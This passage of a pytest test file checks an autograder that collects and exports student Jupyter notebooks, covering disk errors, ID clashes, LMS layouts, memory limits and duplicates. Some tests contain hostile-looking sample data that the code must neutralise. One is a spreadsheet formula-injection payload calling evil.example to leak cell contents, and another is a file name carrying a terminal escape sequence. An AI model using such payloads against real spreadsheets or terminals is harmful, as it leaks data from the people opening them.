                            f"collect the download again, then `python -m autograder grade{build_option(course)}`"), bob
    from autograder.cli import main

    capsys.readouterr()
    assert main(["export"]) == 1
    assert ("1 student could not be filed by the last collect (bob): its scores are left empty and the notes say why; "
            "collect the download again") in capsys.readouterr().out
    from autograder.feedback import feedback

    result = feedback(course, students=["bob"])  # no page blaming the student for the server's full disk
    assert result.errors == {"bob": "02-shapes-and-loss.ipynb could not be filed (OSError: [Errno 28] No space left "
                                    "on device): no feedback written; collect the download again"}, result.errors
    assert result.explained == [] and not course.step_dir("feedback", "bob").exists()
    monkeypatch.setattr(collect_module, "write_submission", real)
    # another download of bob's without that notebook files what it holds; the unfiled notebook stays on record
    other = collect(course, write_tree(tmp_path / "o", {"bob/00-vectors-shapes-and-gradients.ipynb": notebook_bytes("b")}))
    assert other.students["bob"].status == "new" and other.students["bob"].unfiled == ["02-shapes-and-loss"]
    again = collect(course, download).students["bob"]  # collected again: filed, nothing left
    assert again.status == "updated" and again.unfiled == [] and again.error is None


def test_an_earlier_hand_in_goes_back_when_the_new_one_cannot_be_put_in_its_place(course, tmp_path, monkeypatch):
    """write_submission moved the earlier hand-in to replaced/ before renaming the new one into place: when that
    rename failed, the student had nothing left in submitted/."""
    first = collect(course, write_tree(tmp_path / "d1", {"ann/02-shapes-and-loss.ipynb": notebook_bytes("old")}))
    assert first.students["ann"].status == "new"
    real_rename = Path.rename

    def rename(self, target):
        if self.name == ".incoming-part-ii":
            raise OSError(5, "Input/output error")
        return real_rename(self, target)

    monkeypatch.setattr(Path, "rename", rename)
    report = collect(course, write_tree(tmp_path / "d2", {"ann/02-shapes-and-loss.ipynb": notebook_bytes("new")}))
    assert report.students["ann"].status == "not filed" and "Input/output error" in report.students["ann"].error
    assert submitted(course, "ann") == {"02-shapes-and-loss.ipynb": notebook_bytes("old")}

    def rename_twice_failing(self, target):  # the move back fails too: its error hid the cause, and where the files went
        if self.name == ".incoming-part-ii" or self.parent.parent == course.replaced_dir:
            raise OSError(5, "Input/output error" if self.name == ".incoming-part-ii" else "No space left on device")
        return real_rename(self, target)

    monkeypatch.setattr(Path, "rename", rename_twice_failing)
    report = collect(course, write_tree(tmp_path / "d3", {"ann/02-shapes-and-loss.ipynb": notebook_bytes("newer")}))
    error = report.students["ann"].error
    (kept,) = (course.replaced_dir / "ann").iterdir()
    assert report.students["ann"].status == "not filed" and "Input/output error; and the earlier hand-in" in error, error
    assert (f"could not be moved back from {kept} (No space left on device): move it to "
            f"{course.step_dir('submitted', 'ann')} by hand") in error, error
    assert submitted(course, "ann") == {} and (kept / "02-shapes-and-loss.ipynb").read_bytes() == notebook_bytes("old")


def test_a_download_that_holds_the_instructor_s_source_notebooks_is_refused(course):
    repo = Path(__file__).resolve().parent.parent
    for path, where in [(repo, "holds"), (course.source_dir, "is"), (course.source_dir / "sub", "is inside")]:
        with pytest.raises(AutograderError, match=rf"{where} the instructor's source notebooks .* not the course's sources"):
            collect(course, path)
    assert course.submitted_students() == []


# --- --student never files another student's work --------------------------------------------------------------

@pytest.mark.parametrize("files, others", [
    ({"hank_124_457_02-shapes-and-loss.ipynb": "h", "ivy_125_458_00-vectors-shapes-and-gradients.ipynb": "i"},
     "hank, ivy"),
    ({"gina_123_456_02-shapes-and-loss.ipynb": "g"}, "gina"),
    ({"gina/work/02-shapes-and-loss.ipynb": "g", "gina/notes.txt": "n"}, "gina"),
    ({"Full Name_10007_assignsubmission_file_/02-shapes-and-loss.ipynb": "m",
      "Other One_10008_assignsubmission_file_/00-vectors-shapes-and-gradients.ipynb": "o"}, "10007, 10008"),
], ids=["two-canvas-names", "canvas-name-of-a-gradebook-student", "folder-of-a-gradebook-student", "two-moodle-folders"])
def test_student_option_refuses_a_download_whose_layout_names_other_students(course, tmp_path, files, others):
    """Only notebooks handed in by two students were refused: hank's 02 and ivy's 00 were both filed as dana's."""
    with course.gradebook() as gb:
        gb.update_or_create_student("gina")
    download = write_tree(tmp_path / "d", {k: notebook_bytes(v) for k, v in files.items()})
    with pytest.raises(AutograderError, match=rf"--student dana: the download's LMS file or folder names give (another "
                                              rf"student|other students) \({others}\), whose files would be filed as "
                                              rf"dana's"):
        collect(course, download, student="dana")
    assert course.submitted_students() == []


@pytest.mark.parametrize("files", [
    {"week1/02-shapes-and-loss.ipynb": "a", "week2/00-vectors-shapes-and-gradients.ipynb": "b"},
    {"alice/week1/02-shapes-and-loss.ipynb": "a", "alice/week2/00-vectors-shapes-and-gradients.ipynb": "b"},
    {"doejohn_12345_67890_02-shapes-and-loss.ipynb": "c"},  # the student's own Canvas name, filed under the gradebook id
    {"John Doe_12345_assignsubmission_file_/02-shapes-and-loss.ipynb": "m"},
], ids=["subfolders", "subfolders-of-the-student-s-folder", "own-canvas-name", "own-moodle-folder"])
def test_student_option_files_one_student_s_own_folders_and_lms_names_as_theirs(course, tmp_path, files):
    with course.gradebook() as gb:
        gb.update_or_create_student("alice")
    download = write_tree(tmp_path / "d", {k: notebook_bytes(v) for k, v in files.items()})
    report = collect(course, download, student="alice")
    assert list(report.students) == ["alice"] and len(submitted(course, "alice")) == len(files)


# --- ids: one student one id ------------------------------------------------------------------------------------

def test_folders_that_give_one_id_or_ids_that_differ_only_in_case_are_refused_before_filing(course, tmp_path):
    """'Zhang San/' and 'Zhang_San/' were merged into one student without a word; 'Uma/' beside the gradebook's uma
    became a second student."""
    merged = write_tree(tmp_path / "merged", {"Zhang San/00-vectors-shapes-and-gradients.ipynb": notebook_bytes("a"),
                                              "Zhang_San/02-shapes-and-loss.ipynb": notebook_bytes("b"),
                                              "li/02-shapes-and-loss.ipynb": notebook_bytes("c")})
    with pytest.raises(AutograderError, match=r"nothing was collected: the folders 'Zhang San' and 'Zhang_San' both "
                                              r"give the student id Zhang_San"):
        collect(course, merged)
    with course.gradebook() as gb:
        gb.update_or_create_student("uma")
    cased = write_tree(tmp_path / "cased", {"Uma/02-shapes-and-loss.ipynb": notebook_bytes("u"),
                                            "li/02-shapes-and-loss.ipynb": notebook_bytes("c")})
    with pytest.raises(AutograderError, match=r"Uma and uma differ only in case or Unicode spelling \(ids are "
                                              r"case-sensitive\); rename the folders or files"):
        collect(course, cased)
    with pytest.raises(AutograderError, match=r"Uma and uma differ only in case .*; give --student the id the gradebook has"):
        collect(course, write_tree(tmp_path / "one", {"02-shapes-and-loss.ipynb": notebook_bytes("u")}), student="Uma")
    with course.gradebook() as gb:  # an id added decomposed (nbgrader db student add) is the same name composed
        gb.update_or_create_student("Rene\u0301")
    with pytest.raises(AutograderError, match=r"differ only in case or Unicode spelling"):
        collect(course, write_tree(tmp_path / "rene", {"Ren\u00e9/02-shapes-and-loss.ipynb": notebook_bytes("r")}))
    assert course.submitted_students() == []
    spelt = write_tree(tmp_path / "spelt", {"Jos\u00e9/02-shapes-and-loss.ipynb": notebook_bytes("nfc"),  # macOS: NFD
                                            "Jose\u0301/00-vectors-shapes-and-gradients.ipynb": notebook_bytes("nfd")})
    assert list(collect(course, spelt).students) == ["Jos\u00e9"]  # one student, as the two names look
    moodle = write_tree(tmp_path / "moodle", {  # Moodle's two folders of one student are one id by design
        "Zhang San_123_assignsubmission_file_/02-shapes-and-loss.ipynb": notebook_bytes("m"),
        "Zhang San_123_assignsubmission_onlinetext_/onlinetext.html": b"<p>hi</p>"})
    assert list(collect(course, moodle).students) == ["123"]


# --- what collect and export show ---------------------------------------------------------------------------------

def test_control_characters_in_file_names_are_printed_escaped(course, tmp_path, capsys):
    from autograder.collect import print_report

    with zipfile.ZipFile(tmp_path / "esc.zip", "w") as zf:
        zf.writestr("ivan/02-shapes-and-loss.ipynb", notebook_bytes("i"))
        zf.writestr("ivan/\x1b[1A\x1b[2Kcheat.txt", b"x")
    print_report(collect(course, tmp_path / "esc.zip"))
    out = capsys.readouterr().out
    assert "\x1b" not in out and "ivan/\\x1b[1A\\x1b[2Kcheat.txt: " in out, out


def test_exported_text_that_a_spreadsheet_would_run_as_a_formula_is_quoted(course, tmp_path):
    import csv

    from autograder.course import ASSIGNMENT
    from autograder.export import export, not_graded

    with course.gradebook() as gb:
        gb.update_or_create_assignment(ASSIGNMENT)
        gb.update_or_create_student("ivan", last_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
                                    first_name="+1+2")
        gb.update_or_create_student("=1+2")  # an id of the roster's, never collected
    collect(course, write_tree(tmp_path / "d", {"ivan/02-shapes-and-loss.ipynb": notebook_bytes("i")}))
    grades_csv = export(course, bom=True)[0]
    with open(grades_csv, newline="", encoding="utf-8-sig") as fh:
        rows = {r["student_id"]: r for r in csv.DictReader(fh)}
    assert sorted(rows) == ["'=1+2", "ivan"]
    ivan = rows["ivan"]
    assert ivan["last_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")' and ivan["first_name"] == "'+1+2"
    assert ivan["status"] == "not graded" and rows["'=1+2"]["score"] == "0"  # plain text and numbers unchanged
    assert not_graded(grades_csv) == ["ivan"] and not_graded(grades_csv, "no submission") == ["=1+2"]  # read back


@pytest.mark.parametrize("as_zip", [False, True], ids=["folder", "zip"])
def test_a_large_file_that_is_no_notebook_is_streamed_not_held_in_memory(course, tmp_path, monkeypatch, as_zip):
    """Every file of a download was read into memory up to 512 MiB each: four 400 MiB members of zeros (a 1.6 MB zip)
    took 2 GB. A file that is no notebook needs its bytes only for a digest and its rejected copy."""
    import autograder.collect as collect_module
    from autograder.collect import read_download

    monkeypatch.setattr(collect_module, "MAX_HELD_OTHER_BYTES", 1000)
    big = bytes(range(256)) * 20  # 5,120 bytes
    files = {"kim/02-shapes-and-loss.ipynb": notebook_bytes("k") + b" " * 2000, "kim/data.bin": big}
    download = write_tree(tmp_path / "d", files)
    if as_zip:
        with zipfile.ZipFile(tmp_path / "d.zip", "w", compression=zipfile.ZIP_DEFLATED) as zf:
            for rel in files:
                zf.write(download / rel, rel)
        download = tmp_path / "d.zip"
    held = {str(e.path): (len(e.data), e.size) for e in read_download(download)[0]}
    assert held == {"kim/02-shapes-and-loss.ipynb": (len(files["kim/02-shapes-and-loss.ipynb"]),) * 2,
                    "kim/data.bin": (0, len(big))}
    report = collect(course, download)
    assert list(report.students["kim"].notebooks) == ["02-shapes-and-loss"]
    [(file, reason, copy)] = [(r.file, r.reason, r.copy) for r in report.rejected]
    assert file == "kim/data.bin" and reason.startswith("not a notebook") and Path(copy).read_bytes() == big


def test_a_student_s_many_rejected_files_are_summed_up_in_the_report_and_the_csv(course, tmp_path, capsys):
    """A handed-in venv of 1,500 files printed 1,505 lines and gave a notes cell of 129,763 characters (a
    spreadsheet cell holds 32,767); the missing-notebook note came last."""
    import csv

    from autograder.collect import print_report
    from autograder.course import ASSIGNMENT, build_option
    from autograder.export import export

    with course.gradebook() as gb:
        gb.update_or_create_assignment(ASSIGNMENT)
    files = {"abe/02-shapes-and-loss.ipynb": notebook_bytes("a"), "cat/02-shapes-and-loss.ipynb": notebook_bytes("c"),
             **{f"abe/venv/mod_{i:02d}.py": b"x = 1\n" for i in range(25)}, "cat/notes.txt": b"n",
             "abe/zz/00-vectors-shapes-and-gradients.ipynb": b"{"}  # sorts last, matters most
    report = collect(course, write_tree(tmp_path / "d", files))
    assert len(report.rejected) == 27
    print_report(report)
    out = capsys.readouterr().out
    assert "abe/zz/00-vectors-shapes-and-gradients.ipynb: invalid JSON" in out
    assert out.count("abe/venv/mod_") == 9 and "abe/venv/mod_08.py" in out and "mod_09" not in out
    assert "  … and 16 more of abe's (all in the course's reports/collect.json)\n" in out
    assert "cat/notes.txt: not a notebook" in out
    with open(export(course)[0], newline="", encoding="utf-8") as fh:
        notes = {r["student_id"]: r["notes"] for r in csv.DictReader(fh)}
    assert "rejected abe/zz/00-vectors-shapes-and-gradients.ipynb: invalid JSON" in notes["abe"]
    assert notes["abe"].count("rejected abe/venv/mod_") == 9
    assert "… and 16 more rejected files (all in reports/collect.json)" in notes["abe"]
    build = build_option(course)
    assert build.startswith(" --build ")  # the test's build folder is not the default: the hint must name it
    assert notes["abe"].endswith("missing 00-vectors-shapes-and-gradients.ipynb (scored 0); not graded yet; run "
                                 f"`python -m autograder grade{build}`")


def test_a_released_course_file_over_the_streaming_size_handed_back_is_still_recognised(course, tmp_path, monkeypatch):
    import autograder.collect as collect_module

    monkeypatch.setattr(collect_module, "MAX_HELD_OTHER_BYTES", 1000)
    table = bytes(range(256)) * 20
    (course.bundle_dir / "data/part-ii").mkdir(parents=True)
    (course.bundle_dir / "data/part-ii/table.bin").write_bytes(table)
    report = collect(course, write_tree(tmp_path / "d", {"mia/02-shapes-and-loss.ipynb": notebook_bytes("m"),
                                                         "mia/data/part-ii/table.bin": table}))
    assert report.rejected == []
    assert [r.file for r in report.ignored] == ["mia/data/part-ii/table.bin"]


def test_two_streamed_zip_members_of_one_name_keep_their_own_bytes(course, tmp_path, monkeypatch):
    import warnings

    import autograder.collect as collect_module

    monkeypatch.setattr(collect_module, "MAX_HELD_OTHER_BYTES", 1000)
    first, second = b"a" * 5000, b"b" * 6000
    with warnings.catch_warnings(), zipfile.ZipFile(tmp_path / "d.zip", "w") as zf:
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name, which is the point
        zf.writestr("kim/02-shapes-and-loss.ipynb", notebook_bytes("k"))
        zf.writestr("kim/data.bin", first)
        zf.writestr("kim/data.bin", second)
    report = collect(course, tmp_path / "d.zip")
    assert sorted(Path(r.copy).read_bytes() for r in report.rejected) == [first, second]


@pytest.mark.parametrize("value, shown", [
    ("-5", "-5"), ("+3.5", "+3.5"), ("-1e3", "-1e3"), ("-.5", "-.5"), ("plain", "plain"),
    ("-inf", "'-inf"), ("-nan", "'-nan"), ("-1_000", "'-1_000"), ("=1+2", "'=1+2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("- a note", "'- a note"),
])
def test_only_what_a_spreadsheet_reads_as_a_number_keeps_its_formula_sign(value, shown):
    from autograder.export import sheet_value, spreadsheet_text

    assert spreadsheet_text(value) == shown and sheet_value(shown) == value


def test_a_note_of_60_000_digits_is_quoted_in_linear_time():
    """An audit of the patterns applied to student text: a file named '+' and 65,528 ones then 'x', filed by its
    exercises, starts its student's notes; the number pattern's two overlapping digit runs took 80 s on it."""
    from linear_time import run_on

    note = "+" + "1" * 65_528 + "x.ipynb filed as 02-shapes-and-loss.ipynb"
    assert run_on("spreadsheet_text(text)", note, "from autograder.export import spreadsheet_text") == repr("'" + note)


def test_student_option_reads_no_owner_from_names_of_files_that_are_no_notebooks(course, tmp_path):
    """plot_1_2_loss.png reads like a Canvas name: --student alice was refused for 'other students (fig, plot)'."""
    files = {"02-shapes-and-loss.ipynb": notebook_bytes("a"), "figs/plot_1_2_loss.png": b"p", "figs/fig_3_4_acc.png": b"f"}
    report = collect(course, write_tree(tmp_path / "d", files), student="alice")
    assert list(report.students) == ["alice"] and len(report.rejected) == 2


def test_a_heavy_student_s_lines_stay_together_in_the_report(course, tmp_path, capsys):
    from autograder.collect import print_report

    files = {"abe/02-shapes-and-loss.ipynb": notebook_bytes("a"), "cat/notes.txt": b"n", "zed/x.txt": b"z",
             **{f"abe/venv/m{i:02d}.py": b"x" for i in range(25)}}
    print_report(collect(course, write_tree(tmp_path / "d", files)))
    lines = [line.strip() for line in capsys.readouterr().out.splitlines()]
    start = lines.index("abe/venv/m00.py: not a notebook (.py); only .ipynb files are graded")
    assert lines[start + 10].startswith("… and 15 more of abe's") and lines[start + 11].startswith("cat/notes.txt")


@pytest.mark.parametrize("as_zip", [False, True], ids=["folder", "zip"])
def test_large_notebooks_are_read_only_while_the_download_s_memory_budget_lasts(course, tmp_path, monkeypatch, as_zip):
    """Every notebook up to 512 MiB was read into memory at once: a zip of many 400 MiB 'notebooks' of zeros could
    take all the machine's memory."""
    import autograder.collect as collect_module

    monkeypatch.setattr(collect_module, "MAX_NOTEBOOK_BYTES", 4000)
    monkeypatch.setattr(collect_module, "MAX_READ_BYTES", 40_000)
    monkeypatch.setattr(collect_module, "MAX_HELD_BYTES", 20_000)
    big = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("print('x' * 9000)", id="loud")])
    big.cells[0].outputs = [nbformat.v4.new_output("stream", name="stdout", text="x" * 9000)]
    data = nbformat.writes(big).encode()
    files = {f"{s}/02-shapes-and-loss.ipynb": data for s in ("ann", "ben", "cy")}
    files["dee/02-shapes-and-loss.ipynb"] = notebook_bytes("small")  # small ones are always read
    download = write_tree(tmp_path / "d", files)
    if as_zip:
        with zipfile.ZipFile(tmp_path / "d.zip", "w") as zf:
            for rel in files:
                zf.write(download / rel, rel)
        download = tmp_path / "d.zip"
    report = collect(course, download)
    assert sorted(s for s, r in report.students.items() if r.notebooks) == ["ann", "ben", "dee"]
    [(file, reason, copy)] = [(r.file, r.reason, r.copy) for r in report.rejected]
    assert file == "cy/02-shapes-and-loss.ipynb" and reason.startswith("not read (0.0 MiB): the download's notebooks")
    assert "collect this student's files on their own" in reason and Path(copy).read_bytes() == data
    assert list(collect(course, write_tree(tmp_path / "cy", {"cy/02-shapes-and-loss.ipynb": data})).students["cy"]
                .notebooks) == ["02-shapes-and-loss"]  # alone, it is read


def test_a_later_untouched_copy_does_not_replace_work_collected_before(course, tmp_path):
    """A later download holding a student's untouched release copy replaced the work filed from the first one, the
    very case an untouched copy loses within one download (review). It is listed as a duplicate that lost;
    --replace-older files it anyway."""
    stub = "# YOUR CODE HERE\nraise NotImplementedError()"
    nbformat.write(nbformat.reads(answer_notebook(stub).decode(), 4), course.release_dir / "02-shapes-and-loss.ipynb")
    collect(course, write_tree(tmp_path / "a", {"ann/02-shapes-and-loss.ipynb": answer_notebook("x = 1")}))
    later = write_tree(tmp_path / "b", {"ann/02-shapes-and-loss.ipynb": answer_notebook(stub)})
    report = collect(course, later)
    assert submitted(course, "ann") == {"02-shapes-and-loss.ipynb": answer_notebook("x = 1")}
    [record] = report.rejected
    assert record.reason == (
        "duplicate: ann handed in 02-shapes-and-loss.ipynb more than once; kept the one collected before, which has "
        "answers filled in (1); none of this one's answer cells differs from the release; to file it instead, collect "
        "again with --replace-older"), record.reason
    collect(course, later, replace_older=True)
    assert submitted(course, "ann") == {"02-shapes-and-loss.ipynb": answer_notebook(stub)}


def test_many_repeated_cell_ids_and_a_long_file_name_are_read_in_linear_time():
    """An audit of the patterns applied to student text: 20,000 cells with one id took 34 s to rename (each repeat
    counted from 2 past every name taken), and a zip member named with 16,000 underscores before 'x' took 40 s to
    match against the notebooks' names; a zip can hold far more of both."""
    from linear_time import run_on

    cells = [{"cell_type": "markdown", "id": "x", "metadata": {}, "source": ""}] * 200_000
    raw = json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
    setup = "import json\nfrom autograder.collect import unique_cell_ids"
    assert run_on("(unique_cell_ids(raw := json.loads(text)), len({c['id'] for c in raw['cells']}))", raw,
                  setup) == repr(((199_999, 0), 200_000))
    setup = "from autograder.collect import match_notebook, number_before_last_word, is_final, copy_number"
    for stem in ("_" * 60_000 + "x", " " * 60_000 + "02-shapes-and-loss"):
        assert run_on("(match_notebook(text, ['02-shapes-and-loss']), number_before_last_word(text), is_final(text), "
                      "copy_number(text))", stem, setup) == repr((None, None, False, 0))
    assert match_notebook("s1001_02-shapes-and-loss (1)", ["02-shapes-and-loss"]) == ("02-shapes-and-loss", "s1001")


def test_a_thousand_repeats_of_a_64_character_cell_id_are_renamed_to_valid_ids():
    """Repeats were renamed id[:60] + '-N', past nbformat's 64 characters from N = 1000: a notebook of 1,200 cells
    sharing one 64-character id was rejected as damaged (found by a mutation audit). nbformat's own validator, not
    the renaming code, judges the result."""
    from autograder.collect import unique_cell_ids

    cells = [{"cell_type": "markdown", "id": "a" * 64, "metadata": {}, "source": f"cell {i}"} for i in range(1200)]
    raw = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    assert unique_cell_ids(raw) == (1199, 0)
    nbformat.validate(nbformat.from_dict(raw))  # raises for an id over 64 characters or a repeated one
    assert len({c["id"] for c in raw["cells"]}) == 1200 and raw["cells"][0]["id"] == "a" * 64


# --- mutation audit: behaviour no test pinned -------------------------------------------------------------------


def test_macos_appledouble_files_beside_a_notebook_are_system_files_not_rejected_notebooks(course, tmp_path):
    """macOS writes '._NAME' beside each file it zips or copies to a foreign disk (outside __MACOSX too): it is no
    hand-in, so it must not be rejected as alice's damaged 02 (her page would say a file of hers was not graded)."""
    download = write_tree(tmp_path / "d", {"alice/02-shapes-and-loss.ipynb": notebook_bytes("alice"),
                                           "alice/._02-shapes-and-loss.ipynb": b"\x00\x05\x16\x07\x00\x02\x00\x00"})
    report = collect(course, download)
    assert report.rejected == []
    assert [(r.file, r.reason) for r in report.ignored] == [
        ("alice/._02-shapes-and-loss.ipynb", "system file (OS or Jupyter metadata)")]
    assert submitted(course, "alice") == {"02-shapes-and-loss.ipynb": notebook_bytes("alice")}


def test_a_folder_of_two_students_named_files_is_unwrapped(course, tmp_path):
    """LAYOUTS_HELP: a folder that holds just one folder is unwrapped when that folder holds files named for several
    students; two are several (with two, 'submissions' was filed as one student with a duplicate)."""
    download = write_tree(tmp_path / "d", {"submissions/alice_02-shapes-and-loss.ipynb": notebook_bytes("alice"),
                                           "submissions/bob_02-shapes-and-loss.ipynb": notebook_bytes("bob")})
    report = collect(course, download)
    assert sorted(report.students) == ["alice", "bob"]
    assert report.unwrapped == ["submissions/"]
    assert report.rejected == []
    assert submitted(course, "bob") == {"02-shapes-and-loss.ipynb": notebook_bytes("bob")}


def test_a_blackboard_user_name_is_the_longest_gradebook_student_its_name_ends_with(course, tmp_path):
    """blackboard_users: 'the longest _-ending of the head that is a student of the gradebook': with students san and
    zhang_san in the gradebook, zhang_san's attempt is zhang_san's, not san's."""
    with course.gradebook() as gb:
        for sid in ("san", "zhang_san"):
            gb.update_or_create_student(sid)
    name = "Part II_zhang_san_attempt_2026-03-01-10-00-00_02-shapes-and-loss.ipynb"
    report = collect(course, write_tree(tmp_path / "d", {name: notebook_bytes("zhang san")}))
    assert sorted(report.students) == ["zhang_san"]
    assert submitted(course, "zhang_san") == {"02-shapes-and-loss.ipynb": notebook_bytes("zhang san")}
    assert not course.step_dir("submitted", "san").exists()


def test_at_equal_times_a_name_copy_counts_as_copy_number_one(course, tmp_path):
    """copy_number: 1 for 'NAME-copy', so at equal times it is the higher-numbered copy, and the report says so."""
    download = write_tree(tmp_path / "d", {"zoe/02-shapes-and-loss.ipynb": notebook_bytes("first"),
                                           "zoe/02-shapes-and-loss-copy.ipynb": notebook_bytes("second")})
    for name in ("02-shapes-and-loss.ipynb", "02-shapes-and-loss-copy.ipynb"):
        os.utime(download / "zoe" / name, (1_700_000_000, 1_700_000_000))
    (dup,) = collect(course, download).rejected
    assert dup.file == "zoe/02-shapes-and-loss.ipynb"
    assert "kept zoe/02-shapes-and-loss-copy.ipynb, the higher-numbered copy" in dup.reason, dup.reason


def test_a_stub_with_only_blank_lines_added_is_still_handed_in_as_released(course, tmp_path):
    """answers_given compares sources without surrounding blanks: an Enter pressed after the stub is no answer, so the
    blank notebook is still named in collect's summary (and never beats work as 'having answers')."""
    stub = "# YOUR CODE HERE\nraise NotImplementedError()"
    nbformat.write(nbformat.reads(answer_notebook(stub).decode(), 4), course.release_dir / "02-shapes-and-loss.ipynb")
    download = write_tree(tmp_path / "d", {"ann/02-shapes-and-loss.ipynb": answer_notebook(stub + "\n\n  "),
                                           "bob/02-shapes-and-loss.ipynb": answer_notebook("\n" + stub),
                                           "bob/old/02-shapes-and-loss.ipynb": answer_notebook("x = 1")})
    for path in download.rglob("*.ipynb"):
        os.utime(path, (1_700_000_000, 1_700_000_000))
    report = collect(course, download)
    assert report.students["ann"].unanswered == ["02-shapes-and-loss"]
    # bob's blank copy loses to his work in old/, though it sits in fewer folders
    assert submitted(course, "bob") == {"02-shapes-and-loss.ipynb": answer_notebook("x = 1")}


def test_nbgrader_metadata_is_put_back_only_on_a_cell_of_the_released_type(course, tmp_path):
    """restore_metadata: 'same id and type': a code answer cell the student turned into markdown keeps no answer
    metadata (nbgrader would take prose for the code answer); the unchanged test cell gets its own back."""
    write_answer_and_test_release(course.release_dir / "02-shapes-and-loss.ipynb")
    handed = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("my answer, in words", id="answer"),
                                             nbformat.v4.new_code_cell("assert True", id="test")])
    download = write_tree(tmp_path / "d", {"kim/02-shapes-and-loss.ipynb": nbformat.writes(handed).encode()})
    report = collect(course, download)
    filed = nbformat.reads(submitted(course, "kim")["02-shapes-and-loss.ipynb"].decode(), 4)
    assert "nbgrader" not in filed.cells[0].metadata
    assert filed.cells[1].metadata["nbgrader"]["grade_id"] == "test_a"
    assert any("nbgrader metadata of 1 cell put back from the release" in n for n in report.students["kim"].notes)


def test_a_changed_file_with_the_same_time_as_the_one_collected_before_replaces_it(course, tmp_path):
    """Only a file older than the one collected before is kept out; one of the same time (an LMS gives the attempt's
    time to every file of it) is filed, not rejected as 'older'."""
    when = 1_700_000_000
    first = write_tree(tmp_path / "a", {"alice/02-shapes-and-loss.ipynb": notebook_bytes("first")})
    os.utime(first / "alice/02-shapes-and-loss.ipynb", (when, when))
    collect(course, first)
    second = write_tree(tmp_path / "b", {"alice/02-shapes-and-loss.ipynb": notebook_bytes("fixed")})
    os.utime(second / "alice/02-shapes-and-loss.ipynb", (when, when))
    report = collect(course, second)
    assert report.rejected == []
    assert report.students["alice"].status == "updated"
    assert submitted(course, "alice") == {"02-shapes-and-loss.ipynb": notebook_bytes("fixed")}


def test_a_damaged_copy_as_new_as_the_notebook_filed_is_rejected_for_its_damage_not_as_a_duplicate(course, tmp_path):
    """older_damaged: only a damaged file older than the notebook filed becomes a duplicate that lost (which the
    student's page leaves out); one of the same time may be the copy meant, so its own reason stays."""
    download = write_tree(tmp_path / "d", {"alice/02-shapes-and-loss.ipynb": notebook_bytes("alice"),
                                           "alice/02-shapes-and-loss (1).ipynb": b'{"cells": ['})
    for name in ("02-shapes-and-loss.ipynb", "02-shapes-and-loss (1).ipynb"):
        os.utime(download / "alice" / name, (1_700_000_000, 1_700_000_000))
    (damaged,) = collect(course, download).rejected
    assert damaged.file == "alice/02-shapes-and-loss (1).ipynb"
    assert damaged.reason.startswith("invalid JSON"), damaged.reason


def test_late_as_a_whole_follows_nbgrader_a_file_at_the_due_time_is_on_time():
    """nbgrader counts a hand-in late only when its time is after the due date: a file dated exactly at the due date is
    on time, and a hand-in whose newest file is dated exactly then is not late as a whole."""
    from autograder.collect import CollectReport, StudentReport, late_as_a_whole

    due = dt.datetime(2026, 3, 1, 15, 59)  # naive UTC, as the gradebook keeps it
    at_due, hour_before, hour_after = (f"{t:%Y-%m-%d %H:%M:%S}.000000 UTC" for t in
                                       (due, due - dt.timedelta(hours=1), due + dt.timedelta(hours=1)))
    report = CollectReport(source="d", students={
        "ada": StudentReport("ada", "new", timestamp=at_due,
                             file_times={"00-vectors-shapes-and-gradients": hour_before, "02-shapes-and-loss": at_due}),
        "ben": StudentReport("ben", "new", timestamp=hour_after,
                             file_times={"00-vectors-shapes-and-gradients": at_due, "02-shapes-and-loss": hour_after})})
    assert late_as_a_whole(report, due, {}) == {
        "ben": ("2026-03-01 16:59 UTC", "2026-03-01 15:59 UTC", ["00-vectors-shapes-and-gradients"])}


def test_two_gradebook_ids_that_differ_only_in_case_do_not_stop_every_collect(course, tmp_path):
    """id_clashes refuses new ids that differ from another only in case; two such students already in the gradebook
    (added with nbgrader db) are the instructor's choice and must not refuse a download of someone else."""
    with course.gradebook() as gb:
        for sid in ("Uma", "uma"):
            gb.update_or_create_student(sid)
    report = collect(course, write_tree(tmp_path / "d", {"bob/02-shapes-and-loss.ipynb": notebook_bytes("bob")}))
    assert sorted(report.students) == ["bob"]
